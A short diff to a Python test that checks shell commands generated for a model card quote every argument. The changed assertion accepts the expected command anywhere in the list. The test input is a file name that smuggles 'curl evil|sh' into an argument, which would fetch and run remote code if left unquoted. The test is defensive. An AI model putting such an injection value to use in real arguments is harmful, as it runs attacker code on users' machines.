@@ -156,7 +156,7 @@ def test_card_shell_commands_quote_every_argument(tmp_path: Path) -> None:
     for line in commands:  # each command parses back to exactly the words intended, nothing runs inside
         words = shlex.split(line)
         assert not any(w in (";", "|", "&&") for w in words)
-    assert shlex.split(commands[-1]) == ["gguf-mtp", "verify", "x;curl evil|sh.gguf"]
+    assert ["gguf-mtp", "verify", "x;curl evil|sh.gguf"] in [shlex.split(line) for line in commands]
 
 
 def test_card_front_matter_keeps_only_valid_repo_ids(tmp_path: Path) -> None:
